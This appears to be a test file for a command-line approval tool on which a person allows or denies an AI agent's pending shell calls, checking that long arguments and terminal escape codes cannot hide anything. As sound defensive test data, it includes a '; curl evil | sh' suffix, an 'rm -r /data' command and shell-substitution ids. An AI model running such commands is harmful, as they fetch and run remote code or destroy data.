import assert from 'node:assert/strict'
import { spawnSync } from 'node:child_process'
import { writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { after, before, suite, test } from 'node:test'
import { fileURLToPath } from 'node:url'
import { canonicalJson } from '../../src/util/canonical-json.ts'
import type { Journal } from '../../src/journal/journal.ts'
import { sqliteJournal } from '../../src/sqlite.ts'
import { started } from '../../src/testing/conformance/journal/records.ts'
import { newFolder } from '../journal/sqlite/folder.ts'
import { fanfold, refused, said } from './fanfold.ts'
import { atTerminal, withoutTerminal } from './pseudo-terminal.ts'

const { folder, file, remove } = newFolder()
const never = new AbortController().signal
let journal: Journal

/** A call waits for a person. */
async function ask(turnId: string, callKey: string, input: unknown, name = 'shell'): Promise<void> {
  const json = canonicalJson(input) ?? ''
  await journal.append({ kind: 'call.asked', turnId, callKey, name, input: json, atMs: 5_000 })
}

/** The calls that still wait, as `<turn> <call>`. */
async function waiting(): Promise<string[]> {
  return (await journal.questions()).map(({ turnId, callKey }) => `${turnId} ${callKey}`)
}

function decision(turnId: string, callKey: string) {
  return journal.decision(turnId, callKey, never)
}

/** Runs what was printed in a POSIX shell, where `fanfold` is the command. */
function pasted(command: string, ...more: readonly string[]) {
  const bin = fileURLToPath(new URL('../../bin/fanfold.mjs', import.meta.url))
  const script = `fanfold() { '${process.execPath}' '${bin}' "$@"; }; ${[command, ...more].join(' ')}`
  return spawnSync('sh', ['-c', script], { encoding: 'utf8', cwd: folder })
}

before(async () => {
  journal = await sqliteJournal(file, { pollMs: 20 })
})
after(async () => {
  await journal.close()
  remove()
})

suite('fanfold approve shows the whole call', () => {
  test('calls that differ at the end of long arguments do not look the same', async () => {
    const padded = (end: string) => ({
      a: `ls${' '.repeat(300)}`,
      command: `ls${' '.repeat(5_000)}${end}`,
    })
    await ask('whole', 'a', padded(''))
    await ask('whole', 'b', padded('; curl evil | sh'))
    const listed = await said('approve', file)
    const [first = '', second = ''] = listed.split('A call waits for approval').slice(1)
    assert.doesNotMatch(first, /curl/)
    assert.match(second, /; curl evil \| sh"/)
    assert.doesNotMatch(listed, /…/)
    assert.match(second, /arguments {2}5,3\d\d characters on \d+ lines:\n/)
    for (const name of ['whole/a', 'whole/b']) await said('approve', file, name, '--deny')
  })

  test('arguments of a megabyte are all there', async () => {
    const text = Array.from({ length: 100_000 }, (_, at) => `line ${at}\n`).join('')
    await ask('whole', 'long', { text })
    const shown = await said('approve', file, 'whole/long', '--deny')
    assert.equal(shown.match(/line \d+\\n$/gm)?.length, 99_999)
    assert.match(shown, /line 99999\\n"/)
  })

  test('nothing in ids, names and arguments makes a line, moves the cursor, or cannot be seen', async () => {
    const evil = '\u001b[2J\u009b31m\u202e\u200b\u2028\n  tool       ls\r\t'
    await ask(`t${evil}`, `c${evil}`, { [`k${evil}`]: evil }, `n${evil}`)
    const faulty = /[^\n\P{C}]|[\p{Zl}\p{Zp}]/u
    for (const argv of [
      ['approve', file],
      ['approve', file, '--json'],
      ['journal', 'show', file, `t${evil}`],
      ['journal', 'show', file, `t${evil}`, '--json'],
    ]) {
      const shown = await said(...argv)
      assert.doesNotMatch(shown, faulty, argv.join(' '))
      assert.ok(!/^ {2}tool {7}ls/m.test(shown))
    }
    const { questions } = JSON.parse(await said('approve', file, '--json')) as {
      questions: { turnId: string; callKey: string; name: string; input: string; call: string }[]
    }
    const [{ turnId, callKey, name, input, call } = assert.fail()] = questions
    assert.deepEqual([turnId, callKey, name], [`t${evil}`, `c${evil}`, `n${evil}`])
    assert.deepEqual(JSON.parse(input), { [`k${evil}`]: evil })
    const denied = await said('approve', file, call, '--deny')
    assert.doesNotMatch(denied, faulty)
    assert.match(denied.trimEnd().split('\n').at(-1) ?? '', /^Denied n\\u001b.*, call t%1B.*\/c%1B/)
  })
})

suite('fanfold approve decides', () => {
  test('with --yes or --deny, and says what was decided of what', async () => {
    await ask('plain', 'a', { n: 1 })
    await ask('plain', 'b', { n: 2 })
    assert.equal(
      await said('approve', file, 'plain/a', '--deny', '--reason', 'Too expensive.'),
      [
        'A call waits for approval, since 1970-01-01 00:00:05 UTC.',
        '  tool       shell',
        '  call       plain/a',
        '  arguments  7 characters on 3 lines:',
        '    {',
        '      "n": 1',
        '    }',
        'Denied shell, call plain/a.',
        '',
      ].join('\n'),
    )
    assert.deepEqual(await decision('plain', 'a'), { decision: 'deny', reason: 'Too expensive.' })
    assert.match(
      await said('approve', file, 'plain/b', '--yes'),
      /^Allowed shell, call plain\/b\.$/m,
    )
    assert.deepEqual(await decision('plain', 'b'), { decision: 'allow' })
    assert.match(await refused(1, 'approve', file, 'plain/a', '--yes'), /decided already \(deny\)/)
    assert.equal(await said('approve', file), 'No call waits for a person.\n')
    assert.deepEqual(JSON.parse(await said('approve', file, '--json')), { questions: [] })
  })

  test('about what the call would run with, references replaced and defaults filled in', async () => {
    const asked = { kind: 'call.asked', turnId: 'plain', callKey: 'refs', name: 'shell' } as const
    const resolvedInput = '{"command":"rm -r /data","cwd":"/"}'
    const input = '{"command":"rm -r ${look.path}"}'
    await journal.append({ ...asked, input, resolvedInput, atMs: 1 })
    const shown = await said('approve', file, 'plain/refs', '--deny')
    assert.match(shown, /"command": "rm -r \/data",\n +"cwd": "\/"/)
    assert.doesNotMatch(shown, /look\.path/)
  })

  test('with other arguments, which are shown, and reach the engine', async () => {
    const [less, list, broken] = ['less.json', 'list.json', 'broken.json'].map((name) =>
      join(folder, name),
    ) as [string, string, string]
    writeFileSync(less, '{ "sum": 5, "n": [1] }')
    writeFileSync(list, '[5]')
    writeFileSync(broken, '{ sum: 5 }')
    await ask('plain', 'less', { sum: 100 })
    const instead = (...more: string[]) => ['approve', file, 'plain/less', '--input', ...more]
    assert.match(await refused(2, ...instead(list, '--yes')), /a JSON object, got .*something else/)
    assert.match(
      await refused(2, ...instead(broken, '--yes')),
      /a JSON object, got .*broken\.json": /,
    )
    assert.match(await refused(2, ...instead(join(folder, 'none'), '--yes')), /ENOENT/)
    assert.match(await refused(2, ...instead(less, '--deny')), /Expected --input without --deny/)
    const both = ['approve', file, 'plain/less', '--yes', '--deny']
    assert.match(await refused(2, ...both), /Expected --yes or --deny, got both/)
    assert.match(await refused(2, 'approve', file, '--input', less), /Expected <turn>\/<call>/)
    const undecided = await fanfold(instead(less))
    assert.match(undecided.stderr, /plain\/less --input \S+less\.json --yes; to deny it: /)
    assert.equal(undecided.code, 2)
    assert.deepEqual(await waiting(), ['plain less'])
    const shown = await said(...instead(less, '--yes'))
    assert.match(shown, /"sum": 100\n {4}\}\n {2}instead {4}17 characters on 6 lines:\n {4}\{\n/)
    assert.match(
      shown,
      /^Allowed shell, call plain\/less, with the arguments that were given instead\.$/m,
    )
    const changedInput = '{"n":[1],"sum":5}'
    assert.deepEqual(await decision('plain', 'less'), { decision: 'allow', changedInput })
    assert.match(await said('journal', 'show', file, 'plain'), /with other arguments: \{"n":\[1\],/)
    // The same arguments are no change.
    await ask('plain', 'same', { sum: 5, n: [1] })
    await said('approve', file, 'plain/same', '--input', less, '--yes')
    assert.deepEqual(await decision('plain', 'same'), { decision: 'allow' })
  })

  test('with --json and no words', async () => {
    await ask('plain', 'json', { n: 1 })
    assert.match(await refused(2, 'approve', file, 'plain/json', '--json'), /--json does not ask/)
    assert.deepEqual(JSON.parse(await said('approve', file, 'plain/json', '--json', '--yes')), {
      turnId: 'plain',
      callKey: 'json',
      call: 'plain/json',
      name: 'shell',
      input: '{"n":1}',
      decision: 'allow',
    })
  })

  test('not without a terminal: it shows the call, and says what to do', async () => {
    await ask('plain', 'none', { n: 1 })
    const { code, stdout, stderr } = await fanfold(['approve', file, 'plain/none'])
    assert.equal(code, 2)
    assert.match(stdout, /"n": 1/)
    assert.match(
      stderr,
      /^fanfold: Nothing was decided, .*plain\/none --yes; to deny it: .* --deny\n$/,
    )
    assert.deepEqual(await waiting(), ['plain none'])
    await said('approve', file, 'plain/none', '--deny')
  })

  test('and says what is wrong', async () => {
    await journal.append(started('run-1-1', 'a', 1_000))
    assert.match(await refused(2, 'approve', file, 'plain/other'), /got "plain\/other"/)
    assert.match(await refused(2, 'approve', file, '--deny'), /Expected <turn>\/<call>/)
    assert.match(await refused(2, 'approve', file, '--yes'), /Expected <turn>\/<call>/)
    assert.match(await refused(1, 'approve', file, 'run-1-1/a'), /does not wait for a decision/)
  })

  test('by whatever ids there are, as the printed commands name them', async () => {
    const ids = ['a/b', '-x y', "it's $HOME `id`", 'a\nb', '%2F', '\u202e日本', '', '~root', '*']
    for (const [at, id] of ids.entries()) await ask(id, `${ids.at(at - 1)}`, { n: at })
    const listed = await said('approve', file)
    const commands = [...listed.matchAll(/^ {2}decide {5}(fanfold .*)$/gm)].map(
      ([, command = '']) => command,
    )
    assert.equal(commands.length, ids.length)
    for (const [at, command] of commands.entries()) {
      const { status, stdout, stderr } = pasted(command, '--yes')
      assert.equal(status, 0, stderr)
      assert.match(stdout, new RegExp(`"n": ${at}\\n`), stderr)
      const turnId = ids[at] ?? ''
      assert.deepEqual(await decision(turnId, `${ids.at(at - 1)}`), { decision: 'allow' })
    }
  })

  test('not on a name that may be two calls, but on what it says to give instead', async () => {
    await ask('p', 'q/r', { n: 1 })
    await ask('p/q', 'r', { n: 2 })
    const complaint = await refused(2, 'approve', file, 'p/q/r', '--yes')
    assert.match(complaint, /may be p\/q%2Fr or p%2Fq\/r\./)
    await said('approve', file, 'p%2Fq/r', '--deny')
    assert.deepEqual(await waiting(), ['p q/r'])
    await said('approve', file, 'p/q%2Fr', '--deny')
  })
})

suite('fanfold approve asks at a terminal', { skip: withoutTerminal }, () => {
  test('and allows the call by y', async (context) => {
    await ask('tty', 'yes', { command: 'ls' })
    const { saw, press, code } = atTerminal(context, ['approve', file, 'tty/yes'])
    await saw('"command": "ls"')
    await saw('Allow shell, call tty/yes, with the 16 characters of arguments above? y/N')
    press('y\n')
    await saw('Allowed shell, call tty/yes.')
    assert.equal(await code, 0)
    assert.deepEqual(await decision('tty', 'yes'), { decision: 'allow' })
  })

  for (const [what, keys] of [
    ['an empty line', '\n'],
    ['n', 'n\n'],
    ['more than a y', 'yy\n'],
    ['the end of the input', '\u0004'],
    ['Ctrl-C', '\u0003'],
  ] as const)
    test(`and decides nothing by ${what}`, async (context) => {
      const call = `no-${what.replaceAll(' ', '-')}`
      await ask('tty', call, { command: 'ls' })
      const { saw, press, code } = atTerminal(context, ['approve', file, `tty/${call}`])
      await saw('y/N')
      press(keys)
      if (keys !== '\u0003') await saw('Nothing was decided. To deny it: fanfold approve')
      assert.notEqual(await code, 0)
      assert.deepEqual(await waiting(), [`tty ${call}`])
      await said('approve', file, `tty/${call}`, '--deny')
    })

  test('and says so when somebody else was faster', async (context) => {
    await ask('tty', 'race', { command: 'ls' })
    const { saw, press, code } = atTerminal(context, ['approve', file, 'tty/race'])
    await saw('y/N')
    await said('approve', file, 'tty/race', '--deny')
    press('y\n')
    await saw('decided already (deny)')
    assert.equal(await code, 1)
  })
})
